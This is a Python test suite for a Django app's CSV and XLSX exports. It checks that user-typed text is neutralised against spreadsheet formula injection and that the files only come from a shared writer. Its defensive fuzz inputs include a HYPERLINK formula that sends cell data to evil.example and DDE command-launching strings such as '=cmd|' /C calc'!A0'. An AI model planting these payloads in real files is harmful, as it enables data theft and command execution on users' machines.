"""Every CSV and XLSX file we make opens, runs no formula and holds what people
typed, whatever they typed; and nothing writes such files but the shared writer.

Each property puts generated text into the models through services and
factories, makes the file the way the team does (the task or the view) and reads
it back with ``csv`` and openpyxl. Each example runs in a savepoint that is
rolled back, so examples do not pile up rows for the next.
"""

from __future__ import annotations

import ast
import csv
import io
import re
import uuid
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.contrib.auth.models import AnonymousUser
from django.db import transaction
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from hypothesis import HealthCheck, assume, example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from assets.models import Asset, AssetKind, HolderType
from assets.services import asset_save, assets_import_csv
from cocommission.accounts.models import User
from cocommission.organisations.models import Organisation, Role
from cocommission.spreadsheets import neutralise, restore
from contracts.services import contract_save
from cycles.models import Cycle, Mode, Phase, Risk, Visibility
from cycles.risks import risk_save
from cycles.services import activity_create, decision_confirm, decision_record
from outcomes.models import Indicator, Outcome
from outcomes.services import framework_create, indicator_save, outcome_save
from panels.models import DemographicCategory, Quota
from panels.services import category_save, quotas_import_csv
from reports.models import ReportStatus
from reports.tasks import make_open_data
from surveys.ballots import ballot_publish, option_save
from surveys.models import Ballot, BallotOption, ExportKind, Kind
from surveys.services import results_publish
from surveys.submission import survey_submit_response
from tests.accounts.factories import UserFactory
from tests.contracts.factories import make_contract
from tests.cycles.factories import ActivityFactory, CycleFactory
from tests.organisations.factories import MembershipFactory, OrganisationFactory
from tests.panels.factories import PanelFactory
from tests.surveys.factories import make_survey

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parent.parent

# -- What people type ---------------------------------------------------------

#: What a spreadsheet takes as the start of a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "''+x",
    "#N/A",
    "-3",
    "-",
    "=",
    "a\x01b",
    "\x0b=1+1",
]
# Any character the database can hold: no surrogates, no NUL.
characters = st.characters(exclude_categories=["Cs"], exclude_characters="\x00")
# Characters that trouble spreadsheets, often.
troublesome = st.sampled_from(
    list("\x01\x08\x0b\x0c\x1f\x7f\x85\ufffe\uffff\r\n\t=+-@' a")
)
typed = st.one_of(
    st.sampled_from(PAYLOADS),
    st.builds(
        str.__add__,
        st.sampled_from([*FORMULA_STARTS, "'", "''"]),
        st.text(characters, max_size=25),
    ),
    st.text(characters, min_size=1, max_size=25),
    st.text(troublesome, min_size=1, max_size=12),
)

fuzz = settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
cheaper = settings(fuzz, max_examples=15)
slow_fuzz = settings(fuzz, max_examples=6)

# -- What the files must hold (the rule the data dictionary documents) --------

_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?", re.ASCII)


def in_csv(text: str) -> str:
    """A ' goes before text whose first character after any ' could start a
    formula, unless the text is just a number; nothing else changes."""
    if text.lstrip("'").startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def in_xlsx(text: str) -> Any:
    """As in CSV, after leaving out what XLSX cannot hold and writing a carriage
    return as a line break. An empty cell reads back as None."""
    kept = re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", "", text)
    kept = kept.replace("\r\n", "\n").replace("\r", "\n")
    return in_csv(kept) or None


def _check_text(value: Any) -> None:
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        assert _NUMBER.fullmatch(value), f"a cell could run: {value!r}"


def read_csv(data: bytes) -> list[list[str]]:
    """The rows of a CSV file, after checking no cell could run as a formula."""
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    for row in rows:
        for cell in row:
            _check_text(cell)
    return rows


def read_xlsx(data: bytes) -> dict[str, list[list[Any]]]:
    """Each sheet's rows, after checking no cell is a formula or an error and no
    text could run as one."""
    book = load_workbook(io.BytesIO(data))
    sheets = {}
    for sheet in book.worksheets:
        rows = []
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type not in {"f", "e"}, (cell.coordinate, cell.value)
                _check_text(cell.value)
            rows.append([cell.value for cell in row])
        sheets[sheet.title] = rows
    return sheets


def _body(response: Any) -> bytes:
    assert response.status_code == 200, response.status_code
    if response.streaming:
        return b"".join(response.streaming_content)
    return bytes(response.content)


@contextmanager
def rolled_back() -> Iterator[None]:
    """Run one example in a savepoint and throw its rows away afterwards."""
    with transaction.atomic():
        yield
        transaction.set_rollback(True)


@pytest.fixture(autouse=True)
def _media(settings: Any, tmp_path: Any) -> None:
    settings.MEDIA_ROOT = str(tmp_path)


def _team(make_member: Any) -> tuple[Organisation, User, Client]:
    organisation = OrganisationFactory()
    commissioner = make_member(Role.COMMISSIONER, organisation)
    client = Client()
    client.force_login(commissioner)
    return organisation, commissioner, client


def _label(text: str) -> str:
    """A choice label as the survey builder stores it (trimmed, never empty)."""
    return text.strip() or "x"


# -- The rule itself ----------------------------------------------------------


@fuzz
@given(text=typed)
@example(text="-3")
@example(text="'-3")
def test_our_imports_get_back_exactly_what_was_exported(text: str) -> None:
    """The shared writer follows the documented rule, and taking its ' off again
    (as our imports do) gives back exactly what was typed."""
    assert neutralise(text) == in_csv(text)
    assert restore(neutralise(text)) == text


# -- Survey downloads: responses (CSV and XLSX) and counts (CSV) --------------


@cheaper
@given(question=typed, option=typed, answer=typed, other=typed)
def test_survey_downloads_open_run_nothing_and_keep_the_answers(
    make_member: Any,
    django_capture_on_commit_callbacks: Any,
    question: str,
    option: str,
    answer: str,
    other: str,
) -> None:
    """Responses as CSV and XLSX and the counts as CSV, made by the download
    task and fetched from the download link, hold every answer as typed (apart
    from the documented ') and no formula; a negative number stays a number."""
    assume(_label(option).casefold() != "another")
    with rolled_back():
        organisation, commissioner, client = _team(make_member)
        survey = make_survey(
            organisation,
            questions=[
                {
                    "kind": Kind.SINGLE,
                    "text": question,
                    "options": [_label(option), "Another"],
                    "allow_other": True,
                },
                {"kind": Kind.SHORT_TEXT, "text": "Say more"},
                {"kind": Kind.NUMBER, "text": "How many"},
            ],
        )
        single, text, number = survey.questions.all()
        survey_submit_response(
            survey=survey,
            answers={
                single.field_name: single.options[0],
                f"{single.field_name}_other": other,
                text.field_name: answer,
                number.field_name: "-3.5",
            },
            user=AnonymousUser(),
            submission_key=uuid.uuid4(),
        )
        files = {}
        for kind in ExportKind.values:
            with django_capture_on_commit_callbacks(execute=True):
                client.post(
                    reverse(
                        "surveys:export_new",
                        kwargs={"org_slug": organisation.slug, "pk": survey.pk},
                    ),
                    {"kind": kind},
                )
            export = survey.exports.get(kind=kind)
            files[kind] = _body(
                client.get(
                    reverse(
                        "surveys:export_download",
                        kwargs={
                            "org_slug": organisation.slug,
                            "pk": survey.pk,
                            "export_pk": export.pk,
                        },
                    )
                )
            )

        stored_question, label = single.text, single.options[0]
        header, row = read_csv(files[ExportKind.RESPONSES_CSV])
        assert header[1] == f"Q1 {stored_question}"
        assert row[1:] == [in_csv(label), in_csv(other), in_csv(answer), "-3.5"]

        (sheet,) = read_xlsx(files[ExportKind.RESPONSES_XLSX]).values()
        header, row = sheet
        assert header[1] == in_xlsx(f"Q1 {stored_question}")
        assert row[1:] == [in_xlsx(label), in_xlsx(other), in_xlsx(answer), -3.5]

        counts = read_csv(files[ExportKind.AGGREGATES_CSV])
        assert [in_csv(stored_question), in_csv(label), "1", "1", "100"] in counts
        assert ["How many", "average", "", "1", "-3.50"] in counts


def test_one_control_character_no_longer_stops_xlsx_downloads(
    organisation: Organisation,
    people: dict[str, User],
    django_capture_on_commit_callbacks: Any,
) -> None:
    """The reviewers' case: an answer holding \\x01 made every later XLSX
    download of the survey fail; now the file is made without it."""
    from surveys.exports import export_request

    survey = make_survey(organisation)
    field = next(q for q in survey.questions.all() if q.kind == Kind.LONG_TEXT)
    survey_submit_response(
        survey=survey,
        answers={field.field_name: "fine\x01=1+1"},
        user=AnonymousUser(),
        submission_key=uuid.uuid4(),
    )
    with django_capture_on_commit_callbacks(execute=True):
        export = export_request(
            survey=survey, kind=ExportKind.RESPONSES_XLSX, by=people["commissioner"]
        )
    export.refresh_from_db()
    assert export.status == "done", export.error
    with export.file.open("rb") as handle:
        (sheet,) = read_xlsx(handle.read()).values()
    assert "fine=1+1" in sheet[1]


# -- The asset register -------------------------------------------------------


@fuzz
@given(
    name=typed,
    description=typed,
    area=typed,
    address=typed,
    availability=typed,
    condition=typed,
)
def test_the_asset_export_runs_nothing_and_keeps_the_text(
    make_member: Any,
    name: str,
    description: str,
    area: str,
    address: str,
    availability: str,
    condition: str,
) -> None:
    """The register's CSV download holds each field as typed (apart from the
    documented '), and a negative coordinate stays a plain number."""
    with rolled_back():
        organisation, commissioner, client = _team(make_member)
        asset_save(
            asset=Asset(
                organisation=organisation,
                name=name,
                kind=AssetKind.PLACE,
                holder_type=HolderType.COMMUNITY,
                description=description,
                area=area,
                address=address,
                latitude=Decimal("-51.5"),
                longitude=Decimal("-0.125"),
                availability=availability,
                condition=condition,
            ),
            by=commissioner,
        )
        rows = read_csv(
            _body(
                client.get(
                    reverse("assets:export", kwargs={"org_slug": organisation.slug})
                )
            )
        )
    row = rows[1]
    assert row[:6] == [
        in_csv(name),
        "place",
        "community",
        in_csv(description),
        in_csv(area),
        in_csv(address),
    ]
    assert [Decimal(n) for n in row[6:8]] == [Decimal("-51.5"), Decimal("-0.125")]
    assert row[8:] == [in_csv(availability), in_csv(condition), "no"]


def test_an_exported_register_imports_as_it_was(
    organisation: Organisation,
    other_organisation: Organisation,
    people: dict[str, User],
    client: Client,
) -> None:
    """Our import takes the ' off again, so an export moves between bodies intact."""
    asset_save(
        asset=Asset(
            organisation=organisation,
            name="=Hall",
            kind=AssetKind.PLACE,
            holder_type=HolderType.COMMUNITY,
            description="+ tea on Tuesdays",
            area="'-East",
        ),
        by=people["commissioner"],
    )
    client.force_login(people["commissioner"])
    data = _body(
        client.get(reverse("assets:export", kwargs={"org_slug": organisation.slug}))
    )
    assert "'=Hall" in data.decode()
    report = assets_import_csv(
        organisation=other_organisation, by=people["commissioner"], text=data.decode()
    )
    assert report.ok, report.errors
    copied = Asset.objects.get(organisation=other_organisation)
    assert (copied.name, copied.description, copied.area) == (
        "=Hall",
        "+ tea on Tuesdays",
        "'-East",
    )


# -- Panel quotas -------------------------------------------------------------


def _quota(panel: Any, category: str, value: str) -> DemographicCategory:
    saved = category_save(
        category=DemographicCategory(
            organisation=panel.organisation, name=category, question="Which?"
        ),
        values=[(value, None), ("Another", None)],
    )
    Quota.objects.create(
        panel=panel,
        category=saved,
        value=saved.values.get(label=value),
        minimum=1,
        maximum=2,
    )
    return saved


@fuzz
@given(category=typed, value=typed)
def test_the_quota_download_runs_nothing_and_keeps_the_names(
    make_member: Any, category: str, value: str
) -> None:
    """The quotas CSV holds category and answer names as typed (apart from the
    documented ')."""
    assume(value.casefold() != "another")
    with rolled_back():
        organisation, _commissioner, client = _team(make_member)
        panel = PanelFactory(organisation=organisation)
        _quota(panel, category, value)
        rows = read_csv(
            _body(
                client.get(
                    reverse(
                        "panels:quotas_csv",
                        kwargs={"org_slug": organisation.slug, "pk": panel.pk},
                    )
                )
            )
        )
    assert rows == [
        ["category", "value", "min", "max"],
        [in_csv(category), in_csv(value), "1", "2"],
    ]


def test_an_exported_quota_file_imports_as_it_was(organisation: Organisation) -> None:
    """Names a spreadsheet could run come back from our own file unchanged."""
    panel = PanelFactory(organisation=organisation)
    _quota(panel, "=Age", "-16 to 24")
    from panels.services import quotas_export_csv

    exported = quotas_export_csv(panel=panel)
    assert "'=Age,'-16 to 24" in exported
    other = PanelFactory(organisation=organisation)
    (quota,) = quotas_import_csv(panel=other, data=exported)
    assert (quota.category.name, quota.value.label) == ("=Age", "-16 to 24")


# -- Reports' XLSX annex ------------------------------------------------------


def _cycle_with_text(organisation: Organisation, by: User, text: list[str]) -> Cycle:
    """A cycle whose activity, decision, indicator and risk hold the texts."""
    chair = UserFactory()
    MembershipFactory(user=chair, organisation=organisation, role=Role.DECISION_MAKER)
    cycle = CycleFactory(
        organisation=organisation,
        by=by,
        title=text[0],
        problem_statement=text[1],
        visibility=Visibility.PUBLIC,
    )
    activity_create(
        cycle=cycle, by=by, phase=Phase.ANALYSE, title=text[2], mode=Mode.CO_DESIGN
    )
    decision = decision_record(
        cycle=cycle,
        by=by,
        phase=Phase.ANALYSE,
        title=text[3],
        decided=text[4],
        rationale=text[5],
        decided_by_body="Board",
        board_chair=chair,
        decided_on=timezone.localdate(),
    )
    decision_confirm(decision=decision, by=chair)
    framework = framework_create(
        organisation=organisation, by=by, title="Outcomes", cycle=cycle
    )
    outcome = outcome_save(
        outcome=Outcome(framework=framework, statement=text[6]), by=by
    )
    indicator_save(
        indicator=Indicator(
            outcome=outcome,
            name=text[7],
            unit=text[8],
            baseline_value=Decimal("-2.5"),
            target_value=Decimal("-1"),
        ),
        by=by,
    )
    risk_save(
        risk=Risk(
            cycle=cycle, description=text[9], whose="users", likelihood=2, impact=3
        ),
        by=by,
    )
    return cycle


def _make_report(
    client: Client, organisation: Organisation, kind: str, subject: Any, capture: Any
) -> dict[str, list[list[Any]]]:
    with capture(execute=True):
        response = client.post(
            reverse("reports:new", kwargs={"org_slug": organisation.slug}),
            {"kind": kind, "subject": subject.pk},
        )
    assert response.status_code == 302
    report = organisation.reports.get(kind=kind)
    assert report.status == ReportStatus.DONE, report.error
    return read_xlsx(
        _body(
            client.get(
                reverse(
                    "reports:file",
                    kwargs={
                        "org_slug": organisation.slug,
                        "pk": report.pk,
                        "fmt": "xlsx",
                    },
                )
            )
        )
    )


texts = st.lists(typed, min_size=12, max_size=12)


@slow_fuzz
@given(text=texts)
def test_report_workbooks_run_nothing_and_keep_the_text(
    make_member: Any, django_capture_on_commit_callbacks: Any, text: list[str]
) -> None:
    """Every kind of report's XLSX annex, made by the report task and fetched
    from the download link, holds the text as typed (apart from the documented
    ' and what XLSX cannot hold); negative baselines stay numbers."""
    assume(_label(text[10]).casefold() != "another")
    assume(_label(text[11]).casefold() != "another")
    with rolled_back():
        organisation, commissioner, client = _team(make_member)
        cycle = _cycle_with_text(organisation, commissioner, text)
        capture = django_capture_on_commit_callbacks

        sheets = _make_report(client, organisation, "cycle", cycle, capture)
        assert sheets["Activities"][1][2] == in_xlsx(text[2])
        assert sheets["Decisions"][1][2:] == [in_xlsx(t) for t in text[3:6]]
        assert sheets["Indicators"][1][:5] == [
            in_xlsx(text[6]),
            in_xlsx(text[7]),
            in_xlsx(text[8]),
            -2.5,
            -1,
        ]
        assert sheets["Risks"][1][0] == in_xlsx(text[9])

        survey = make_survey(
            organisation,
            cycle=cycle,
            questions=[
                {
                    "kind": Kind.SINGLE,
                    "text": text[10],
                    "options": [_label(text[11]), "Another"],
                }
            ],
        )
        question = survey.questions.get()
        sheets = _make_report(client, organisation, "survey", survey, capture)
        assert [in_xlsx(question.text), in_xlsx(question.options[0])] in [
            row[:2] for row in sheets["Answers"]
        ]

        ballot = Ballot.objects.create(
            activity=ActivityFactory(cycle=cycle), title="Fund", budget=Decimal(100)
        )
        option_save(option=BallotOption(ballot=ballot, title=text[0], cost=Decimal(40)))
        option_save(option=BallotOption(ballot=ballot, title="Other", cost=Decimal(30)))
        ballot_publish(ballot=ballot)
        stored = ballot.options.get(cost=40).title
        sheets = _make_report(client, organisation, "ballot", ballot, capture)
        assert [in_xlsx(stored), 40] in [row[:2] for row in sheets["Options"]]

        contract = make_contract(organisation, cycle=cycle)
        contract_save(
            contract=contract,
            providers=list(contract.providers.all()),
            indicators=list(Indicator.objects.filter(outcome__framework__cycle=cycle)),
        )
        sheets = _make_report(client, organisation, "contract", contract, capture)
        assert sheets["Indicators"][1][0] == in_xlsx(text[7])


# -- Open data ----------------------------------------------------------------


@slow_fuzz
@given(text=texts)
def test_open_data_runs_nothing_and_keeps_the_text(
    make_member: Any, text: list[str]
) -> None:
    """The public open data package, made by the nightly task and fetched from
    the public link, holds every published text as typed (apart from the
    documented ') and says what a leading ' means."""
    assume(_label(text[11]).casefold() != "another")
    with rolled_back():
        organisation, commissioner, _client = _team(make_member)
        cycle = _cycle_with_text(organisation, commissioner, text)
        survey = make_survey(
            organisation,
            cycle=cycle,
            questions=[
                {
                    "kind": Kind.SINGLE,
                    "text": text[10],
                    "options": [_label(text[11]), "Another"],
                }
            ],
        )
        results_publish(survey=survey, published=True)
        question = survey.questions.get()
        make_open_data()
        archive = zipfile.ZipFile(
            io.BytesIO(
                _body(
                    Client().get(
                        reverse(
                            "public_open_data", kwargs={"org_slug": organisation.slug}
                        )
                    )
                )
            )
        )
    files = {
        name: read_csv(archive.read(name))
        for name in archive.namelist()
        if name.endswith(".csv")
    }
    cycle_row = files["cycles.csv"][1]
    assert (cycle_row[1], cycle_row[7]) == (in_csv(text[0]), in_csv(text[1]))
    assert files["decisions.csv"][1][4:7] == [in_csv(t) for t in text[3:6]]
    indicator = files["indicators.csv"][1]
    assert indicator[1:4] == [in_csv(text[6]), in_csv(text[7]), in_csv(text[8])]
    assert [Decimal(n) for n in indicator[4:6]] == [Decimal("-2.5"), Decimal(-1)]
    assert [in_csv(question.text), in_csv(question.options[0])] in [
        row[2:4] for row in files["survey_results.csv"]
    ]
    readme = archive.read("README.txt").decode()
    assert "' (single quote)" in readme
    assert any("' (single quote)" in row[2] for row in files["data_dictionary.csv"])


# -- Nothing else writes spreadsheets -----------------------------------------

SHARED_WRITER = ROOT / "cocommission" / "spreadsheets.py"
FORBIDDEN = {
    ("csv", "writer"),
    ("csv", "DictWriter"),
    ("openpyxl", "Workbook"),
    ("openpyxl.workbook", "Workbook"),
    ("openpyxl.workbook.workbook", "Workbook"),
    ("xlsxwriter", "Workbook"),
}


def direct_writers(source: str) -> list[str]:
    """Where a module writes CSV or XLSX itself: ``csv.writer(...)``, ``from csv
    import DictWriter``, ``openpyxl.Workbook``, and the like."""
    found = []
    modules = {module for module, _name in FORBIDDEN}
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.ImportFrom) and node.module in modules:
            found += [
                f"line {node.lineno}: from {node.module} import {alias.name}"
                for alias in node.names
                if (node.module, alias.name) in FORBIDDEN or alias.name == "*"
            ]
        elif isinstance(node, ast.Import):
            found += [
                f"line {node.lineno}: import {alias.name}"
                for alias in node.names
                if alias.name.split(".")[0] == "xlsxwriter"
            ]
        elif isinstance(node, ast.Attribute):
            dotted = ast.unparse(node.value)
            if (dotted, node.attr) in FORBIDDEN:
                found.append(f"line {node.lineno}: {dotted}.{node.attr}")
    return found


def _our_modules() -> Iterator[Path]:
    skip = {".venv", "node_modules", "static", "tests", "var", ".git"}
    for path in sorted(ROOT.rglob("*.py")):
        if not skip.intersection(path.relative_to(ROOT).parts):
            yield path


@pytest.mark.parametrize(
    "source",
    [
        "import csv\nw = csv.writer(f)",
        "import csv\nw = csv.DictWriter(f, fieldnames=[])",
        "from csv import writer",
        "from csv import DictWriter as W",
        "from csv import *",
        "from openpyxl import Workbook",
        "import openpyxl\nb = openpyxl.Workbook()",
        "from openpyxl.workbook import Workbook",
        "import xlsxwriter",
    ],
)
def test_the_walk_spots_every_way_of_writing_directly(source: str) -> None:
    """The check below is not blind: each way of writing directly is found."""
    assert direct_writers(source)


#: Files that are not spreadsheets, written by their own format's rules.
NOT_SPREADSHEETS = {
    # Pabulib .pb files are read by research tools (pabutools), which need the
    # titles exactly as typed; their semicolon format is not opened as a sheet.
    ROOT / "surveys" / "pabulib.py",
}


def test_only_the_shared_writer_writes_csv_or_xlsx() -> None:
    """Every export goes through cocommission/spreadsheets.py: no other module of
    ours uses csv.writer, csv.DictWriter or openpyxl's Workbook."""
    modules = list(_our_modules())
    assert SHARED_WRITER in modules and len(modules) > 100
    assert direct_writers(SHARED_WRITER.read_text())
    offenders = {
        str(path.relative_to(ROOT)): found
        for path in modules
        if path != SHARED_WRITER
        and path not in NOT_SPREADSHEETS
        and (found := direct_writers(path.read_text()))
    }
    assert not offenders, offenders
